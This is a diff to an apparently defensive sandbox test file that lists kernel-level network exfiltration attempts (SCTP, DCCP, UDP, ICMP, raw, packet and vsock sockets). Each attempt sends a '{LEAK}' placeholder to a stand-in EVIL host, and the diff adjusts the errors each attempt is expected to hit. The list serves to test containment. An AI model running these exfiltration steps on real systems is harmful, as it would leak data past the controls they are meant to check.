@@ -101,14 +101,12 @@ export const kernel: readonly Attack[] = numbered('K', 'kernel', [
   {
     what: 'SCTP, connected by a socket option',
     step: call('sctp', EVIL, '443', '{LEAK}'),
-    stopped: ['ENETUNREACH', 'EPROTONOSUPPORT', 'EPERM'],
-    landlock: NO_SOCKET,
+    stopped: 'EPROTONOSUPPORT',
   },
   {
     what: 'DCCP to another host',
     step: call('dccp', EVIL, '443', '{LEAK}'),
-    stopped: ['EACCES', 'ENETUNREACH', 'ESOCKTNOSUPPORT', 'EPROTONOSUPPORT'],
-    landlock: NO_SOCKET,
+    stopped: 'EPROTONOSUPPORT',
   },
   { what: 'UDP, sendto(2)', step: call('udp', 'sendto', EVIL, '443', '{LEAK}'), stopped: 'ENETUNREACH', landlock: NO_SOCKET },
   { what: 'UDP, sendmsg(2)', step: call('udp', 'sendmsg', EVIL, '443', '{LEAK}'), stopped: 'ENETUNREACH', landlock: NO_SOCKET },
@@ -146,8 +144,7 @@ export const kernel: readonly Attack[] = numbered('K', 'kernel', [
   {
     what: 'UDP-Lite',
     step: call('udplite', EVIL, '443', '{LEAK}'),
-    stopped: ['ENETUNREACH', 'EPROTONOSUPPORT'],
-    landlock: NO_SOCKET,
+    stopped: 'EPROTONOSUPPORT',
   },
   { what: 'ICMP', step: call('ping', EVIL, '{LEAK}'), stopped: ['EACCES', 'ENETUNREACH'], landlock: NO_SOCKET },
   {
@@ -158,7 +155,7 @@ export const kernel: readonly Attack[] = numbered('K', 'kernel', [
   },
   { what: 'a raw socket for ICMP', step: call('raw', EVIL, '1', '{LEAK}'), stopped: 'EPERM' },
   { what: 'a raw socket for TCP', step: call('raw', EVIL, '6', '{LEAK}'), stopped: 'EPERM' },
-  { what: 'a raw socket for another protocol', step: call('raw', EVIL, '253', '{LEAK}'), stopped: 'EPERM' },
+  { what: 'a raw socket for another protocol', step: call('raw', EVIL, '253', '{LEAK}'), stopped: 'EPROTONOSUPPORT' },
   { what: 'a packet socket', step: call('packet', '{LEAK}'), stopped: NO_FAMILY },
   { what: 'a socket of the hypervisor (vsock)', step: call('vsock', '{LEAK}'), stopped: NO_FAMILY },
   {
